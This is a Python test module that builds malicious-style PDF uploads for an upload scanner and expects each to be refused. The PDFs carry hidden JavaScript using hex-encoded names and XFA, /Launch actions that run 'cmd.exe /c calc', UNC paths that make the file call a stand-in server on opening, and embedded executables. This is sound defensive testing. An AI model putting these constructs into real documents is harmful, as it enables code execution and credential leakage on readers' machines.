"""U28 to U31, U43, U85: PDFs that are well made, and hold what no letter needs: scripts, actions, other files."""

from collections.abc import Mapping
from functools import cache, partial
from typing import Final

from tests.support.bad_uploads import others, pdf, pdf_good
from tests.support.bad_uploads.case import SIGNATURE, Build, OneOf, Refused, Uploads, refused, single, taken
from tests.support.bad_uploads.pdf import CATALOG, MORE, NOTHING, PAGE, Objects

SCRIPT: Final = rb"<< /S /JavaScript /JS (app.alert\(1\)) >>"
SERVER: Final = b"\\\\\\\\198.51.100.7\\\\del"
"""A path to a server, as it stands in a string of PDF."""
LEVELS: Final = 10
_ANNOTATION: Final = b"<< /Type /Annot /Subtype /%b /Rect [60 60 200 90] %b >>"
_FIELD: Final = b"<< /FT /Tx /T (Navn) /Type /Annot /Subtype /Widget /Rect [60 60 260 80] %b >>"


def cases() -> Uploads:
    for row, group in (("U28", _on_open()), ("U29", _hidden_scripts()), ("U30", _actions()), ("U43", _calling_home())):
        for what, build in group.items():
            # the scanner by itself calls a name in hex obfuscated, and may be asked first
            expected = OneOf("active-content", "infected") if "in hex" in what else Refused("active-content")
            yield single(row, what, "brev.pdf", build, expected)
    for what, uri in (
        ("https", b"https://www.borger.dk/sygedagpenge"),
        ("https with a fragment", b"https://borger.dk/#s"),
    ):
        yield taken("U30", f"a plain link, {what}", "brev.pdf", partial(acting, b"/S /URI /URI (%b)" % uri))
    # it is both an embedded file and a call
    both = OneOf("embedded-file", "active-content")
    there = partial(embedding, b"x", name=SERVER + b"\\\\a.txt")
    yield single("U43", "an embedded file whose name is a path to a server", "brev.pdf", there, both)
    yield from _embedded()


def annotated(annotation: bytes, more: Objects = NOTHING) -> bytes:
    """A letter with one annotation."""
    return pdf.letter(page=b"/Annots [%b]" % annotation, more=more)


def acting(action: bytes) -> bytes:
    """A letter with one link that does this."""
    return annotated(_ANNOTATION % (b"Link", b"/A << %b >>" % action))


def form(field: bytes, more: Objects = NOTHING, of_form: bytes = b"") -> bytes:
    """A letter with a form of one field."""
    return pdf.letter(
        catalog=b"/AcroForm << /Fields [6 0 R] %b >>" % of_form, page=b"/Annots [6 0 R]", more={MORE: field, **more}
    )


def opening(action: bytes, more: Objects = NOTHING) -> bytes:
    """A letter that does this when it is opened."""
    return pdf.letter(catalog=b"/OpenAction %b" % action, more=more)


def _on_open() -> Mapping[str, Build]:
    return {
        "when it is opened": partial(opening, SCRIPT),
        "when it is opened, by reference": partial(opening, b"6 0 R", {MORE: SCRIPT}),
        "when it is closed": partial(pdf.letter, catalog=b"/AA << /WC %b >>" % SCRIPT),
        "when its page is shown": partial(pdf.letter, page=b"/AA << /O %b >>" % SCRIPT),
    }


def _hidden_scripts() -> Mapping[str, Build]:
    by_hex = rb"<< /S /J#61v#61Script /#4a#53 (app.alert\(1\)) >>"
    all_hex = b"<< /#53 /#4a#61#76#61#53#63#72#69#70#74 /#4A#53 <6170702e616c657274283129> >>"
    tree = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    xfa = b'<template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)'
    chained = b"/S /URI /URI (https://www.borger.dk/) /Next %b" % SCRIPT
    outline = {
        6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        7: b"<< /Title (Indhold) /Parent 6 0 R /A %b >>" % SCRIPT,
    }
    button = b"/FT /Btn /T (Send) /Type /Annot /Subtype /Widget /Rect [60 60 200 80]"
    clean_again = {CATALOG: pdf.letter_objects()[CATALOG]}
    added = {CATALOG: pdf.letter_objects(catalog=b"/OpenAction %b" % SCRIPT)[CATALOG]}
    return {
        "names in hex": partial(opening, by_hex),
        "all names in hex": partial(opening, all_hex),
        "in an object stream": lambda: pdf.packed(opening(b"6 0 R", {MORE: SCRIPT})),
        "in an annotation": partial(annotated, _ANNOTATION % (b"Link", b"/A %b" % SCRIPT)),
        "when the mouse enters an annotation": partial(
            annotated, _ANNOTATION % (b"Square", b"/AA << /E %b >>" % SCRIPT)
        ),
        "in a name tree": partial(pdf.letter, catalog=tree, more={MORE: SCRIPT}),
        "in a branch of a name tree": partial(
            pdf.letter,
            catalog=b"/Names << /JavaScript << /Kids [7 0 R] >> >>",
            more={MORE: SCRIPT, 7: b"<< /Limits [(a) (a)] /Names [(a) 6 0 R] >>"},
        ),
        "in a field, at each key": partial(form, _FIELD % (b"/AA << /K %b >>" % SCRIPT)),
        "in a field, to reckon": partial(form, _FIELD % (b"/AA << /C %b >>" % SCRIPT), NOTHING, b"/CO [6 0 R]"),
        "in a button": partial(form, b"<< %b /A %b >>" % (button, SCRIPT)),
        "in XFA": partial(form, _FIELD % b"", {7: pdf.stream(xfa)}, b"/XFA 7 0 R"),
        "in XFA, packed": partial(form, _FIELD % b"", {7: pdf.flate(xfa)}, b"/XFA [(template) 7 0 R]"),
        "behind a plain link": partial(acting, chained),
        "behind a plain link, in a list": partial(acting, b"/S /URI /URI (https://borger.dk/) /Next [%b]" % SCRIPT),
        "in the table of contents": partial(pdf.letter, catalog=b"/Outlines 6 0 R", more=outline),
        "as a stream": partial(opening, b"<< /S /JavaScript /JS 6 0 R >>", {MORE: pdf.flate(b"app.alert(1)")}),
        "in an object that nothing refers to": partial(pdf.letter, more={MORE: SCRIPT}),
        "after an update": lambda: pdf.update(pdf.plain(), added),
        "before an update that took it away": lambda: pdf.update(opening(SCRIPT), clean_again),
        "two updates before the last": lambda: pdf.update(pdf.update(opening(SCRIPT), clean_again), clean_again),
    }


def _actions() -> Mapping[str, Build]:
    media = (
        b"/Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D << /Type /Filespec /F (a.mp4) >> >>"
    )
    solid = pdf.stream(b"U3D\0" + bytes(32), b"/Type /3D /Subtype /U3D")
    sound = pdf.stream(bytes(64), b"/Type /Sound /R 8000")
    upper = b"JaVaScRiPt:app.alert(1)"
    actions = {
        "/Launch": b"/S /Launch /F (cmd.exe)",
        "/Launch of Windows": b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
        "/GoToR": b"/S /GoToR /F (anden.pdf) /D [0 /Fit]",
        "/GoToE": b"/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]",
        "/SubmitForm": b"/S /SubmitForm /F << /FS /URL /F (https://example.org/) >> /Flags 4",
        "/ImportData": b"/S /ImportData /F (data.fdf)",
        "/URI javascript:": b"/S /URI /URI (javascript:app.alert\\(1\\))",
        "/URI javascript: in other letters": b"/S /URI /URI <%b>" % upper.hex().encode(),
        "/URI javascript: behind a blank": b"/S /URI /URI (\\n javascript:alert\\(1\\))",
        "/URI data:": b"/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)",
        "/Rendition": b"/S /Rendition /OP 0 /R << %b >>" % media,
        "/Rendition with a script": b"/S /Rendition /OP 0 /JS (app.alert\\(1\\)) /R << %b >>" % media,
        "/Movie as an action": b"/S /Movie /T (film)",
    }
    return {what: partial(acting, action) for what, action in actions.items()} | {
        "/RichMedia": partial(annotated, _ANNOTATION % (b"RichMedia", b"/RichMediaContent << /Configurations [] >>")),
        "/3D": partial(annotated, _ANNOTATION % (b"3D", b"/3DD 6 0 R"), {MORE: solid}),
        "/Movie": partial(annotated, _ANNOTATION % (b"Movie", b"/Movie << /F (film.avi) >> /A true")),
        "/Sound": partial(annotated, _ANNOTATION % (b"Link", b"/A << /S /Sound /Sound 6 0 R >>"), {MORE: sound}),
        "/Sound as an annotation": partial(annotated, _ANNOTATION % (b"Sound", b"/Sound 6 0 R"), {MORE: sound}),
        "/Screen that plays": partial(
            annotated, _ANNOTATION % (b"Screen", b"/A << /S /Rendition /OP 0 /R << %b >> >>" % media)
        ),
    }


def _calling_home() -> Mapping[str, Build]:
    there = SERVER
    external = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return {
        "a path to a server as /URI": partial(acting, b"/S /URI /URI (%b)" % there),
        "file: to a server as /URI": partial(acting, b"/S /URI /URI (file://198.51.100.7/del/a.pdf)"),
        "a link that is followed on opening": partial(opening, b"<< /S /URI /URI (https://example.org/set) >>"),
        "/GoToR to a server on opening": partial(opening, b"<< /S /GoToR /F (%b\\\\a.pdf) /D [0 /Fit] >>" % there),
        "/Launch from a server": partial(acting, b"/S /Launch /F (%b\\\\a.exe)" % there),
        "a page that calls when shown": partial(
            pdf.letter, page=b"/AA << /O << /S /GoToR /F (%b\\\\a.pdf) /D [0 /Fit] >> >>" % there
        ),
        "a picture that lies on a server": partial(
            pdf.with_image, external + b" /F (%b\\\\a.jpg) /Length 0 >>\nstream\n\nendstream" % there
        ),
    }


def attachment(data: bytes, *, name: bytes = b"bilag.txt", kind: bytes = b"text#2Fplain", first: int = MORE) -> Objects:
    """A file and what refers to it, as objects `first` (the file) and the next (its description)."""
    return {
        first: pdf.stream(data, b"/Type /EmbeddedFile /Subtype /%b" % kind),
        first + 1: b"<< /Type /Filespec /F (%b) /UF (%b) /AFRelationship /Data /EF << /F %d 0 R >> >>"
        % (name, name, first),
    }


def embedding(data: bytes, *, catalog: bytes = b"", name: bytes = b"bilag.txt", kind: bytes = b"text#2Fplain") -> bytes:
    """A letter with this file in its list of attachments."""
    listed = b"/Names << /EmbeddedFiles << /Names [(%b) 7 0 R] >> >> %b" % (name, catalog)
    return pdf.letter(catalog=listed, more=attachment(data, name=name, kind=kind))


@cache
def nested(levels: int, core: bytes = b"") -> bytes:
    """A PDF in a PDF, so many times."""
    data = core or pdf.plain()
    for _ in range(levels):
        data = embedding(data, name=b"a.pdf", kind=b"application#2Fpdf")
    return data


def invoice(*, in_list: bool = True) -> bytes:
    """An electronic invoice: PDF/A-3 with its data as XML."""
    data = attachment(b"<rsm:CrossIndustryInvoice/>", name=b"factur-x.xml", kind=b"text#2Fxml", first=7)
    listed = b"/Names << /EmbeddedFiles << /Names [(factur-x.xml) 8 0 R] >> >>" if in_list else b""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AF [8 0 R] /Metadata 5 0 R %b >>" % listed
    return pdf.update(pdf_good.archived(3), {**data, CATALOG: catalog})


def _embedded() -> Uploads:
    words = b"Et bilag."
    clip = _ANNOTATION % (b"FileAttachment", b"/FS 7 0 R")
    page = pdf.letter_objects(page=b"/AF [7 0 R]")[PAGE]
    collection = b"/Collection << /Type /Collection /View /D >>"
    without = {CATALOG: pdf.letter_objects()[CATALOG], 6: b"null", 7: b"null"}
    kinds: tuple[tuple[str, Build], ...] = (
        ("in a name tree", partial(embedding, words)),
        ("in an object stream", lambda: pdf.packed(embedding(words))),
        ("as an annotation", partial(annotated, clip, attachment(words))),
        ("associated with the file (/AF)", partial(pdf.letter, catalog=b"/AF [7 0 R]", more=attachment(words))),
        ("associated with a page (/AF)", partial(pdf.letter, more={PAGE: page, **attachment(words)})),
        ("in a collection", partial(embedding, words, catalog=collection)),
        ("that nothing refers to", partial(pdf.letter, more=attachment(words))),
        ("before an update that took it away", lambda: pdf.update(embedding(words), without)),
        ("that is a program", partial(embedding, others.PROGRAM, name=b"a.exe", kind=b"application#2Foctet-stream")),
        ("that is a PDF", partial(nested, 1)),
        (f"that is a PDF in a PDF, {LEVELS} levels", partial(nested, LEVELS)),
    )
    for what, build in kinds:
        yield refused("U31", f"a file {what}", "brev.pdf", build, "embedded-file")
    # it is both, and who looks first tells first
    both = OneOf("embedded-file", "infected")
    yield single("U31", "a file that is infected", "brev.pdf", partial(embedding, SIGNATURE), both)
    yield single("U31", "an infected file that is packed", "brev.pdf", packed_virus, both)
    yield single(
        "U31", f"an infected PDF under {LEVELS} levels", "brev.pdf", partial(nested, LEVELS, embedding(SIGNATURE)), both
    )
    yield refused("U85", "PDF/A-3 with an invoice as XML", "faktura.pdf", invoice, "embedded-file")
    yield refused("U85", "the same, associated only", "faktura.pdf", partial(invoice, in_list=False), "embedded-file")


def packed_virus() -> bytes:
    objects = attachment(SIGNATURE)
    return pdf.letter(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>",
        more={**objects, MORE: pdf.flate(SIGNATURE, b"/Type /EmbeddedFile")},
    )
